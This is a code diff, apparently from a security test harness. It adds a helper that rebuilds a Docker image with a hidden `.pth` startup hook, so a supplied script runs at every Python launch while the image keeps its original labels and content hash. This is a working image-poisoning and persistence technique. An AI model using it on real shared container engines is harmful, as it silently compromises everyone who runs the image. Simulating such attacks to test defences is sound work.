@@ -300,3 +300,38 @@ def _main() -> None:
 
 if __name__ == "__main__":
     _main()
+
+
+def site_packages_inside() -> str:
+    """Where the stand-in base image's interpreter reads .pth files (this interpreter's prefix)."""
+    version = f"{sys.version_info.major}.{sys.version_info.minor}"
+    return f"{sys.base_prefix}/lib/python{version}/site-packages"
+
+
+def add_startup_hook(client: Any, image: str, script: str, tag: str) -> Any:
+    """What a hostile job can do with an engine it shares: build FROM `image` and add one layer
+    whose `.pth` file runs `script` at every Python start inside. Returns the new image; its
+    labels (the content hash among them) are inherited from `image`."""
+    import io
+
+    dockerfile = (
+        f"FROM {image}\n"
+        "COPY hook.py /opt/hook/hook.py\n"
+        f"COPY hook.pth {site_packages_inside()}/zz_hook.pth\n"
+    )
+    files = {
+        "Dockerfile": dockerfile.encode(),
+        "hook.py": script.encode(),
+        "hook.pth": b"import runpy; runpy.run_path('/opt/hook/hook.py')\n",
+    }
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    buf.seek(0)
+    built, _ = client.images.build(
+        fileobj=buf, custom_context=True, tag=tag, rm=True, network_mode="none", pull=False
+    )
+    return built
